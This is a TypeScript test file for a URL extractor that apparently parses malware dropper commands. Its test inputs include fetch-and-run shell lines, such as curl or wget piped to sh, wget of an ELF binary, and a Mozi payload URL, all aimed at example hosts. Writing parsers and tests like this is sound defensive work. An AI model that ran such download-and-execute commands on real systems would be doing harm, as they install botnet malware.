import { describe, expect, it } from 'vitest';
import { checkUrl, finalUrls, findUrls } from './urls.js';

const urls = (text: string): string[] => findUrls(text).map((u) => u.url);

describe('finding URLs', () => {
  it('takes http, https, ftp and tftp with IPv4, IPv6 or domain hosts and ports', () => {
    expect(urls('wget http://198.51.100.44/elf.mips -O elf')).toEqual(['http://198.51.100.44/elf.mips']);
    expect(urls('curl HTTPS://Paste.Example.com:8443/raw/a?x=1&y=2#f')).toEqual([
      'HTTPS://Paste.Example.com:8443/raw/a?x=1&y=2#f',
    ]);
    expect(urls('ftp://anonymous@198.51.100.3/pub/a tftp://198.51.100.4:69/b'))
      .toEqual(['ftp://anonymous@198.51.100.3/pub/a', 'tftp://198.51.100.4:69/b']);
    expect(urls('(http://[2001:db8::5]:8080/x)')).toEqual(['http://[2001:db8::5]:8080/x']);
    expect(urls('http://[2001:db8::6]')).toEqual(['http://[2001:db8::6]']);
  });

  it('ends a URL at shell punctuation and drops trailing punctuation', () => {
    expect(urls('(curl -fsSL https://example.com/r/5b||wget -q -O- https://example.com/r/5b)|sh'))
      .toEqual(['https://example.com/r/5b', 'https://example.com/r/5b']);
    expect(urls(`'http://198.51.100.1/a'; "http://198.51.100.2/b", http://198.51.100.3/c.`))
      .toEqual(['http://198.51.100.1/a', 'http://198.51.100.2/b', 'http://198.51.100.3/c']);
    expect(urls('wget http://198.51.100.1/a&&sh a;`http://198.51.100.2/b`')).toEqual([
      'http://198.51.100.1/a', 'http://198.51.100.2/b',
    ]);
  });

  it('refuses hosts that are not addresses or ICANN domains, and bad ports', () => {
    expect(urls('http://localhost/ http://nm/ http://999.1.1.1/ http://x.example.com:99999/'))
      .toEqual([]);
    expect(urls('xhttp://198.51.100.1/ http://http://http://')).toEqual([]);
  });

  it('marks a URL cut at a shell variable as open', () => {
    expect(findUrls('eds="https://example.net/line-auth/$nam"')[0]?.open).toBe(true);
    expect(findUrls('eds="https://example.net/line-auth/cert"')[0]?.open).toBeUndefined();
  });

  it('checks a built URL the same way', () => {
    expect(checkUrl('tftp://198.51.100.170/tftp1.sh')?.host).toBe('198.51.100.170');
    expect(checkUrl('tftp://[2001:db8::1]/a')?.kind).toBe('ipv6');
    expect(checkUrl('tftp://2001:db8::1/a')).toBeNull();
  });
});

describe('choosing the URLs to report', () => {
  it('prefers the decoded URL to a raw one running into an encoded separator', () => {
    const raw = 'http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear';
    const decoded = 'http://192.168.1.1:8088/Mozi.m';
    expect(finalUrls([raw, decoded], new Set())).toEqual([decoded]);
    expect(finalUrls([`${decoded}%20-O`, decoded], new Set())).toEqual([decoded]);
    expect(finalUrls([`${decoded}.bak`, decoded], new Set())).toEqual([`${decoded}.bak`, decoded]);
  });

  it('drops a URL cut at a variable when a decoded layer gave it whole', () => {
    const cut = 'https://example.net/line-auth/';
    const whole = 'https://example.net/line-auth/cert';
    expect(finalUrls([cut, whole], new Set([cut]))).toEqual([whole]);
    expect(finalUrls([cut], new Set([cut]))).toEqual([cut]);
    expect(finalUrls([cut, whole], new Set())).toEqual([cut, whole]);
  });
});
